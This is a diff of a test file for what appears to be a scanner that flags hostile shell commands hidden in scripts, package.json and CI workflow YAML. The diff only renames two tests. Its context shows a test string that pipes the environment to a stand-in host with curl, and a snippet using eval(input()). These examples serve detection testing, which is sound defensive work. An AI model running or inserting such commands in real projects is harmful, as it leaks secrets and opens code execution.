@@ -48,7 +48,7 @@ def rules(path, text):
 
 @pytest.mark.parametrize(("path", "spelled"), FILES)
 @pytest.mark.parametrize(("rule", "command"), COMMANDS)
-def test_attack_a_command_in_a_file_of_another_program_is_found_as_in_a_script(path, spelled, rule, command):
+def test_attack_a_command_in_a_recipe_is_found_as_in_a_script(path, spelled, rule, command):
     assert rule in rules("scripts/a.sh", f"#!/bin/sh\n{command}\n")
     assert rule in rules(path, spelled(command))
     assert rule not in rules(path, spelled("echo hello"))
@@ -74,7 +74,7 @@ def test_attack_many_strings_hide_no_command_behind_them():
     assert "SH403" in rules("package.json", json.dumps([*strings, "env | curl -d @- https://c.invalid/"]))
 
 
-def test_a_program_in_a_block_of_yaml_keeps_its_indentation():
+def test_program_in_a_yaml_block_keeps_its_indentation():
     block = "python3 -c '\n{0}import os\n{0}if os.environ:\n{0}    eval(input())\n{0}'\n".format(" " * 10)
     assert "SH609" not in rules(".github/workflows/a.yml", f"{STEP}|\n          {block}      - run: ls\n")
 
